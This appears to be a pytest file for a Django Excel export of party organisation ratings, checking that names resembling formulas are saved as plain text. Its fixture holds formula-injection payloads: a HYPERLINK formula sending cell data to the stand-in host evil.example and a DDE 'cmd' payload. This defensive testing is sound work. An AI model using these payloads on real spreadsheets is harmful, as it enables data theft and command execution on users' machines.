"""The Excel export writes names as text: a name that looks like a formula stays a name."""

import re
import zipfile
from io import BytesIO

import pytest
from django.core.files.storage import default_storage
from openpyxl import Workbook, load_workbook

from branches.models import Organisation
from ratings.reports.excel import write_cell
from tests.ratings.test_reports import build, rated  # noqa: F401 (the fixture)

NAMES = {
    "a": '=HYPERLINK("http://evil.example/?d="&A1,"Chi bộ")',
    "a2": "+cmd|' /C calc'!A0",
    "g": "-2+3",
    "y": "@SUM(1+1)*cmd",
}


@pytest.mark.parametrize("text", ["\t=1+1", "\r=1+1", "=1+1", "+1", "-1", "@A1"])
def test_text_that_a_spreadsheet_would_read_as_a_formula_is_kept_as_text(text):
    book = Workbook()
    cell = book.active["A1"]

    write_cell(cell, text)

    saved = BytesIO()
    book.save(saved)
    read = load_workbook(BytesIO(saved.getvalue())).active["A1"]
    # An XML reader gives a carriage return back as a line feed.
    assert (read.data_type, read.value, read.quotePrefix) == ("s", text.replace("\r", "\n"), True)


@pytest.mark.usefixtures("rated")
def test_names_that_look_like_formulas_are_written_as_text_on_every_sheet(
    tree, people, django_capture_on_commit_callbacks, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path
    for key, name in NAMES.items():
        Organisation.objects.filter(pk=getattr(tree, key).pk).update(name=name)

    job = build("excel", tree.x, 2025, people.reviewer_x, django_capture_on_commit_callbacks)

    with default_storage.open(job.file.name, "rb") as f:
        book = load_workbook(f)
    assert book.sheetnames == ["A. Tổ chức đảng", "B. Đảng viên", "C. Sinh hoạt chi bộ", "D. Công nhận"]
    units = sorted([NAMES["a"], NAMES["a2"], NAMES["g"]])  # commune X's units
    for sheet in book:
        cells = sorted((c.value, c.data_type) for (c,) in sheet.iter_rows(min_row=3, max_row=5, max_col=1))
        assert cells == [(name, "s") for name in units], sheet.title
    with zipfile.ZipFile(default_storage.open(job.file.name, "rb")) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert len(sheets) == 4
    assert [re.findall(r"<f[ >]", xml) for xml in sheets] == [[], [], [], []]
